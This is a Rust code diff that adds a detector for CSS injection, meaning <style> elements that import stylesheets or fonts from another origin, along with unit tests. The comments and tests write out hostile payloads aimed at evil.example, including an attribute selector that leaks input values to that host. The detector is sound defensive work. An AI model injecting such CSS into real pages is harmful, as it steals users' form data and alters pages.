@@ -336,6 +336,61 @@ pub fn script_data_url(v: &str) -> bool {
     })
 }
 
+/// Whether the value opens a `<style>` element that loads a stylesheet or
+/// a font from another origin (`<style>@import '//evil.example/x.css'`,
+/// `<style>@font-face{src:url(https://evil.example/f)}`): the page then
+/// applies the attacker's rules, which read its attributes out through
+/// selectors (`input[value^=a]{background:url(//evil.example/a)}`) and
+/// restyle it; the model blocked `<link rel=stylesheet href=//...>` (1.0)
+/// and scored the same load through `<style>` 0.56. A relative URL
+/// (`url(/img/bg.png)`) and a `data:` URL load nothing from elsewhere and
+/// are left to the model.
+pub fn style_from_elsewhere(v: &str) -> bool {
+    let b = v.as_bytes();
+    let Some(open) = memchr::memchr_iter(b'<', b).find(|&i| {
+        b.get(i + 1..i + 6)
+            .is_some_and(|w| w.eq_ignore_ascii_case(b"style"))
+            && b.get(i + 6)
+                .is_none_or(|&c| c.is_ascii_whitespace() || matches!(c, b'>' | b'/'))
+    }) else {
+        return false;
+    };
+    let css = &b[open + 6..];
+    memchr::memchr2_iter(b'@', b'(', css).any(|i| {
+        let arg = if css[i] == b'@' {
+            if !css
+                .get(i + 1..i + 7)
+                .is_some_and(|w| w.eq_ignore_ascii_case(b"import"))
+            {
+                return false;
+            }
+            let mut j = skip_space(css, i + 7);
+            if css
+                .get(j..j + 4)
+                .is_some_and(|w| w.eq_ignore_ascii_case(b"url("))
+            {
+                j = skip_space(css, j + 4);
+            }
+            j
+        } else {
+            if i < 3 || !css[i - 3..i].eq_ignore_ascii_case(b"url") {
+                return false;
+            }
+            skip_space(css, i + 1)
+        };
+        let url = match css.get(arg) {
+            Some(b'"' | b'\'') => &css[arg + 1..],
+            _ => &css[arg..],
+        };
+        url.starts_with(b"//")
+            || url.starts_with(b"\\\\")
+            || [&b"http:"[..], b"https:"].iter().any(|s| {
+                url.get(..s.len())
+                    .is_some_and(|w| w.eq_ignore_ascii_case(s))
+            })
+    })
+}
+
 /// Whether the value holds an element with an event-handler attribute
 /// (`<img src=x onerror=...>`, `<x/onfocus=...`, `<x 1='1'onxxx=1`) or a
 /// URL attribute whose value is a script URL (`<iframe src="javascript:...">`,
@@ -1572,6 +1627,28 @@ mod tests {
             "onerror==alert",
         ] {
             assert!(!runs_code_or_reads_secrets(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn styles_loaded_from_elsewhere() {
+        for v in [
+            "<style>@import '//evil.example/x.css';</style>",
+            "<STYLE>@IMPORT URL(\"https://evil.example/x.css\")</STYLE>",
+            "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+            "x<style>@font-face{font-family:f;src:url( 'http://evil.example/f' )}",
+        ] {
+            assert!(style_from_elsewhere(v), "{v}");
+        }
+        for v in [
+            "<style>body{background:url(/img/bg.png)}</style>",
+            "<style>@import 'theme.css';</style>",
+            "<style>i{background:url(data:image/png;base64,iVBO)}</style>",
+            "@import url(//fonts.example/css) in a stylesheet",
+            "<styles>url(//x.example)",
+            "<style",
+        ] {
+            assert!(!style_from_elsewhere(v), "{v}");
         }
     }
 
